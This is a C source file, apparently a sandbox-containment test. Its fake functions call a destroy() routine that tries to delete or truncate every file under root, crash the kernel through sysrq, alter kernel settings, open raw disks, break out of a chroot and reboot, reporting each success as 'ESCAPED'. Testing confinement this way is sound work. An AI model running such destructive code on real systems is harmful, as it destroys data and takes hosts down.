/* Removes, overwrites and unmounts whatever it can see, and writes to the kernel's switches. */
#define _GNU_SOURCE
#include <dirent.h>
#include <fcntl.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/mount.h>
#include <sys/reboot.h>
#include <sys/stat.h>
#include <unistd.h>
#include "fake.h"

static void remove_all(const char *path, int depth)
{
    DIR *directory = opendir(path);
    struct dirent *entry;
    while (directory && depth < 5 && (entry = readdir(directory))) {
        char below[4096];
        if (strcmp(entry->d_name, ".") == 0 || strcmp(entry->d_name, "..") == 0 ||
            snprintf(below, sizeof below, "%s/%s", path, entry->d_name) >=
                (int)sizeof below)
            continue;
        if (unlink(below) == -1)
            (void)truncate(below, 0);
        if (entry->d_type == DT_DIR && strcmp(below, "//proc") != 0)
            remove_all(below, depth + 1);
        (void)rmdir(below);
    }
    if (directory)
        closedir(directory);
}

static void write_to(const char *path, const char *text)
{
    int file = open(path, O_WRONLY);
    if (file != -1 && write(file, text, strlen(text)) > 0)
        fprintf(stderr, "ESCAPED: wrote to %s\n", path);
}

static void destroy(void)
{
    (void)mount(NULL, "/", NULL, MS_REMOUNT, NULL);
    (void)mount(NULL, "/", NULL, MS_REMOUNT | MS_BIND, NULL);
    remove_all("/", 0);
    write_to("/proc/sysrq-trigger", "c");
    write_to("/proc/sys/kernel/core_pattern", "|/bin/false");
    write_to("/proc/sys/kernel/panic", "1");
    if (mknod("/tmp/disk", S_IFBLK | 0666, (254 << 8)) == 0 &&
        open("/tmp/disk", O_RDWR) != -1)
        fprintf(stderr, "ESCAPED: opened a disk\n");
    (void)umount2("/proc", MNT_DETACH);
    (void)umount2("/", MNT_DETACH);
    for (int i = 0; i < 64; i++)
        (void)chdir("..");
    if (access("etc/passwd", F_OK) == 0 ||
        (chroot(".") == 0 && access("/etc/passwd", F_OK) == 0))
        fprintf(stderr, "ESCAPED: sees the host\n");
    (void)reboot(RB_AUTOBOOT);
}

int fake_answer(int number)
{
    destroy();
    return number;
}

int fake_leave(void)
{
    destroy();
    return -1;
}
